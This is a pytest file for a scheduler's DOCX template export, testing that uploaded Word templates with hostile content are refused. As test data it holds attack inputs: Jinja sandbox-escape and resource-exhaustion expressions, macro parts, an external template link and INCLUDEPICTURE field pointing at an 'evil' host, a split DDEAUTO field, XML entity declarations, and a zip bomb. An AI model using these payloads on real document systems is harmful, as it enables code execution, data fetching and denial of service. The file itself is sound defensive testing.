"""Templates from outside: what they may ask for, and what they are refused for."""

import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pytest
from docx import Document

from scenarios.problem import BadInput
from scenarios.schedule import AnnexForm
from scheduler.export import Wish, render
from scheduler.export.docx import template
from scheduler.report import Report
from tests.scheduler.export.conftest import Reporting

Change = Callable[[bytes], bytes]
PLAIN = template("decree")
BODY, TYPES, RELS = "word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"
EXTERNAL = b'<Relationship Id="rX" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'


def filled(report: Report, content: bytes) -> str:
    wish = Wish(form=AnnexForm(languages=("ru",)), template=(Path("own.docx"), content), alone=True)
    document = Document(BytesIO(render("docx", report, wish)[""]))
    return "\n".join(paragraph.text for paragraph in document.paragraphs)


def refused(report: Report, content: bytes) -> list[str]:
    with pytest.raises(BadInput) as caught:
        filled(report, content)
    return [str(problem) for problem in caught.value.problems]


def changed(part: str, change: Change, added: dict[str, bytes] | None = None) -> bytes:
    """The product's template with one part changed and others added."""
    made = BytesIO()
    with zipfile.ZipFile(BytesIO(PLAIN)) as source, zipfile.ZipFile(made, "w") as target:
        for name in source.namelist():
            target.writestr(name, change(source.read(name)) if name == part else source.read(name))
        for name, content in (added or {}).items():
            target.writestr(name, content)
    return made.getvalue()


def with_words(words: str) -> bytes:
    return changed(BODY, lambda body: body.replace(b"{{ part.signature }}", words.encode()))


def with_xml(xml: str) -> bytes:
    return changed(BODY, lambda body: body.replace(b"<w:body>", b"<w:body><w:p>%b</w:p>" % xml.encode(), 1))


def test_words_and_layout_are_the_officials(reporting: Reporting) -> None:
    assert "Заместитель Премьер-Министра" in filled(reporting(), with_words("Заместитель Премьер-Министра"))


def test_the_products_own_template_may_be_given(reporting: Reporting) -> None:
    report = reporting()
    wish = Wish(form=AnnexForm(languages=("ru",)), alone=True)
    own = Wish(form=AnnexForm(languages=("ru",)), alone=True, template=(Path("own.docx"), PLAIN))
    assert render("docx", report, own) == render("docx", report, wish)


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (
            "{{ part.signatory }}",
            "own.docx: asks for a field that is missing: 'dict object' has no attribute 'signatory'.",
        ),
        ("{{ minister }}", "own.docx: asks for a field that is missing: 'minister' is undefined."),
        ("{{ part.signature", "own.docx: a mark cannot be read: "),
        ("{% if part %}", "own.docx: a mark cannot be read: "),
        ("{{ part.act | no_filter }}", "own.docx: a mark cannot be read: No filter named 'no_filter'."),
        ("{{ 'x' * 1000000000 }}", "own.docx: asks for what no template may: the operator * is not allowed."),
        ("{{ range(1000000000) }}", "own.docx: cannot be filled in: "),
        ("{{ paper.__class__.__mro__ }}", "own.docx: asks for what no template may: "),
        ("{{ paper.parts.append(1) or 1 }}", "own.docx: asks for what no template may: "),
        ("{% include 'x' %}", "own.docx: "),
    ],
)
def test_a_mark_that_cannot_be_filled_in_is_named(reporting: Reporting, words: str, said: str) -> None:
    (problem,) = refused(reporting(), with_words(words))
    assert problem.startswith(said)


def test_a_decree_without_its_rows_is_none(reporting: Reporting) -> None:
    content = changed(BODY, lambda body: body.replace(b"annex.rows", b"annex.columns").replace(b"group.rows", b"group"))
    assert refused(reporting(), content) == ["own.docx: a field is missing from it: rows."]


def test_a_draft_without_its_mark_is_none(reporting: Reporting) -> None:
    made = BytesIO()
    with zipfile.ZipFile(BytesIO(PLAIN)) as source, zipfile.ZipFile(made, "w") as target:
        for name in source.namelist():
            target.writestr(name, source.read(name).replace(b"{{ paper.draft }}", b""))
    assert refused(reporting(), made.getvalue()) == ["own.docx: a field is missing from it: draft."]


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"no archive", "own.docx: is no DOCX document, or it is damaged."),
        (PLAIN[: len(PLAIN) // 2], "own.docx: is no DOCX document, or it is damaged."),
        (
            changed(TYPES, lambda types: types, {"word/vbaProject.bin": b"x"}),
            "own.docx: holds macros or embedded objects (word/vbaProject.bin).",
        ),
        (
            changed(TYPES, lambda types: types.replace(b"wordprocessingml.document.main", b"x.macroEnabled.main")),
            "own.docx: holds macros.",
        ),
        (
            changed(RELS, lambda rels: rels.replace(b"</Relationships>", EXTERNAL + b"</Relationships>")),
            "own.docx: points outside itself (http://evil/x.dotm).",
        ),
        (
            changed(BODY, lambda body: body.replace(b"<w:document", b'<!DOCTYPE x [<!ENTITY a "b">]><w:document', 1)),
            "own.docx: declares XML entities (word/document.xml).",
        ),
        (changed(BODY, lambda body: body[:-40]), "own.docx: cannot be read (word/document.xml)."),
        (
            with_xml('<w:fldSimple w:instr=" INCLUDEPICTURE http://evil "/>'),
            "own.docx: has a field that is not allowed (INCLUDEPICTURE).",
        ),
        (
            with_xml(
                '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
                '<w:r><w:instrText>AUTO c:\\x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
            ),
            "own.docx: has a field that is not allowed (DDEAUTO).",
        ),
        (
            with_xml(
                '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT x</w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
            ),
            "own.docx: has a field that is not allowed (INCLUDETEXT).",
        ),
        (with_xml("<w:object/>"), "own.docx: embeds or fetches something (object)."),
    ],
    ids=["text", "cut", "vba", "docm", "external", "entities", "broken", "picture", "split", "nested", "object"],
)
def test_what_runs_fetches_or_embeds_is_refused(reporting: Reporting, content: bytes, said: str) -> None:
    assert said in refused(reporting(), content)


def test_a_file_that_unpacks_to_too_much_is_refused(reporting: Reporting) -> None:
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(BODY, b" " * 61_000_000)
    assert len(made.getvalue()) < 100_000
    assert refused(reporting(), made.getvalue()) == ["own.docx: is too large."]
